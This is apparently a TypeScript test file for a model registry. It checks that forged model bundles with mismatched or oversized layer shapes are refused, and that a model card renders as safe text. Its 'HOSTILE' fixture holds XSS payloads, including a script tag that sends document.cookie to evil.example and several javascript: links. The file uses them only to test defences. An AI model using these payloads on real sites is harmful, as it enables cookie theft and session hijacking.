import * as tf from '@tensorflow/tfjs';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { createHash } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { createCoinRegressor } from '../../../models/coin-regressor';
import { loadFromBlobs, saveToBlobs } from '../../../models/io';
import { createSmallCnn } from '../../../models/small-cnn';
import { createFastText, DEFAULT_FASTTEXT } from '../../../models/text/fasttext';
import { exportBundle, importBundle, readBundle } from '../../../src/lib/registry/bundle';
import { InvalidBundleError } from '../../../src/lib/registry/errors';
import { parseMarkdown, type Block, type Inline } from '../../../src/lib/registry/markdown';
import { makeRegistry, registerInput, tableCounts } from '../registry/helpers';

/**
 * Model bundles from strangers (issue #13): what tests/unit/registry/bundle.test.ts does not already
 * cover — a real tfjs model whose weights do not fit its topology (src/lib/registry/topology.ts), and a
 * card full of script.
 */

beforeAll(async () => {
  await tf.setBackend('cpu');
});

const sha = (data: Uint8Array) => createHash('sha256').update(data).digest('hex');

/** Re-zips edited files with a recomputed checksum file, as a careful forger would. */
function rezip(files: Record<string, Uint8Array>): Uint8Array {
  const lines = Object.entries(files)
    .filter(([name]) => name !== 'checksums.sha256')
    .map(([name, data]) => `${sha(data)}  ${name}`);
  return zipSync({ ...files, 'checksums.sha256': strToU8(`${lines.join('\n')}\n`) });
}

/** A bundle of a real 4→8→1 dense model. */
async function realBundle(card?: string): Promise<Record<string, Uint8Array>> {
  const model = tf.sequential({ layers: [tf.layers.dense({ inputShape: [4], units: 8, activation: 'relu', name: 'hidden' }), tf.layers.dense({ units: 1, name: 'out' })] });
  const saved = await saveToBlobs(model);
  model.dispose();
  const registry = makeRegistry();
  const row = await registry.register(registerInput({ ...saved, ...(card ? { card } : {}) }));
  return unzipSync(new Uint8Array(await (await exportBundle(row)).arrayBuffer()));
}

type Topology = { config: { layers: { config: { units?: number; batch_input_shape?: number[] } }[] } };

function editTopology(files: Record<string, Uint8Array>, edit: (topology: Topology) => void): Record<string, Uint8Array> {
  const json = JSON.parse(strFromU8(files['model.json']!)) as { modelTopology: Topology };
  edit(json.modelTopology);
  return { ...files, 'model.json': strToU8(JSON.stringify(json)) };
}

type KerasLayer = { class_name: string; config: Record<string, unknown> & { layers?: KerasLayer[] } };

/** The first layer (depth first, nested models included) that `match` accepts. */
function findLayer(node: unknown, match: (layer: KerasLayer) => boolean): KerasLayer | undefined {
  const layer = node as KerasLayer;
  if (!layer?.config) return undefined;
  if (match(layer)) return layer;
  for (const child of layer.config.layers ?? []) {
    const found = findLayer(child, match);
    if (found) return found;
  }
  return undefined;
}

describe('weights that do not fit the topology', () => {
  it('refuses, at import, weights of the right size but another shape than the layer needs, writing nothing', async () => {
    // Same byte count (4×8 + 8 + 8×1 + 1 = 49 floats), manifest untouched; only the topology now has 2 hidden units.
    const forged = rezip(editTopology(await realBundle(), (t) => (t.config.layers[0]!.config.units = 2)));
    const registry = makeRegistry();
    const before = await tableCounts(registry.db);
    const error = await importBundle(registry, forged).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(InvalidBundleError);
    expect((error as Error).message).toBe(
      'model.json: weightsManifest: gives "hidden/kernel" the shape [4, 8], but layer "hidden" (Dense) needs [*, 2]: the weights do not belong to this network',
    );
    expect(await tableCounts(registry.db)).toEqual(before);
  });

  it('refuses a topology that declares a layer far larger than its weights, before tfjs could allocate it', async () => {
    // A 4×2,000,000,000 kernel (32 GB) asked for by model.json; the shards hold 49 floats.
    const forged = rezip(editTopology(await realBundle(), (t) => (t.config.layers[0]!.config.units = 2_000_000_000)));
    await expect(readBundle(forged)).rejects.toThrow(/layer "hidden" \(Dense\) needs \[\*, 2000000000\]/);
  });

  it('accepts the models Loupe itself builds: small CNN, MobileNetV3 coin regressor, fastText', async () => {
    const models = [
      createSmallCnn({ labels: ['a', 'b', 'c'], inputSize: 16, channels: 1 }).model,
      createCoinRegressor({ backbone: 'mobilenetv3-small', mode: 'shared', inputSize: 32, projection: { units: 8, activation: 'relu' } }).model,
      createFastText({ ...DEFAULT_FASTTEXT, dim: 4, labels: ['negative', 'positive'] }),
    ];
    for (const model of models) {
      const saved = await saveToBlobs(model);
      model.dispose();
      const row = await makeRegistry().register(registerInput({ ...saved }));
      const files = unzipSync(new Uint8Array(await (await exportBundle(row)).arrayBuffer()));
      await expect(readBundle(rezip(files)), model.name).resolves.toMatchObject({ modelJson: saved.modelJson });
      // The check does see these models' layers (nested backbones included): one more filter or unit is refused.
      const json = JSON.parse(saved.modelJson) as { modelTopology: unknown };
      const layer = findLayer(json.modelTopology, (l) => (l.class_name === 'Conv2D' || l.class_name === 'Dense') && l.config.use_bias !== false);
      expect(layer, model.name).toBeDefined();
      if (layer!.class_name === 'Conv2D') layer!.config.filters = (layer!.config.filters as number) + 1;
      else layer!.config.units = (layer!.config.units as number) + 1;
      await expect(readBundle(rezip({ ...files, 'model.json': strToU8(JSON.stringify(json)) })), model.name).rejects.toThrow(/the weights do not belong to this network/);
    }
  }, 60_000);

  it('still refuses to load mismatched weights that reach a worker another way, naming both shapes', async () => {
    const forged = editTopology(await realBundle(), (t) => (t.config.layers[0]!.config.units = 2));
    const error = await loadFromBlobs({ modelJson: strFromU8(forged['model.json']!), shards: [new Blob([forged['group1-shard1of1.bin']! as BlobPart])] }).catch((e: unknown) => e);
    expect((error as Error).message).toMatch(/Shape mismatch: \[4,2\] vs\. \[4,8\]/);
  });

  // tfjs builds the model's variables and decodes the weights before it finds they do not fit, and keeps
  // both; models/io.ts frees them.
  it('frees what a failed load allocated (variables and decoded weights)', async () => {
    const forged = editTopology(await realBundle(), (t) => (t.config.layers[0]!.config.units = 2));
    const tensors = tf.memory().numTensors;
    await loadFromBlobs({ modelJson: strFromU8(forged['model.json']!), shards: [new Blob([forged['group1-shard1of1.bin']! as BlobPart])] }).catch(() => undefined);
    expect(tf.memory().numTensors).toBe(tensors);
  });
});

describe('a model card full of script', () => {
  const HOSTILE = [
    '# Totally safe <script>fetch("https://evil.example/?" + document.cookie)</script>',
    '',
    '<img src=x onerror="window.__pwned=1"> <iframe src="javascript:alert(1)"></iframe>',
    '',
    '[docs](javascript:alert(1)) [home](https://example.org) <a href="javascript:alert(2)">x</a>',
    '',
    '```html',
    '<script>alert(3)</script>',
    '```',
  ].join('\n');

  it('imports the card byte for byte and renders it as text nodes and safe links only', async () => {
    const registry = makeRegistry();
    const before = await tableCounts(registry.db);
    const row = await importBundle(registry, rezip(await realBundle(HOSTILE)));
    expect(row.card).toBe(HOSTILE);
    expect((await tableCounts(registry.db)).modelVersions).toBe(before.modelVersions! + 1);

    const blocks = parseMarkdown(row.card!);
    const links: string[] = [];
    const visit = (nodes: Inline[]) => {
      for (const node of nodes) {
        if (node.kind === 'link') links.push(node.href);
        if ('children' in node) visit(node.children);
      }
    };
    for (const block of blocks as Block[]) {
      if ('children' in block) visit(block.children);
      if (block.kind === 'list') block.items.forEach(visit);
    }
    expect(links).toEqual(['https://example.org']);
    // Every node kind is text-like: nothing the UI could mount as markup.
    expect(JSON.stringify(blocks)).not.toMatch(/"kind":"(html|raw|element)"/);
    expect(blocks[0]).toMatchObject({ kind: 'heading', level: 1 });
    expect(JSON.stringify(blocks[0])).toContain('<script>fetch(');
  });

  it('still refuses a card that is not UTF-8 text', async () => {
    const files = await realBundle();
    const error = await readBundle(rezip({ ...files, 'README.md': Uint8Array.from([0x3c, 0x73, 0xff, 0xfe, 0x3e]) })).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(InvalidBundleError);
    expect((error as Error).message).toBe('README.md: is not UTF-8 text');
  });
});
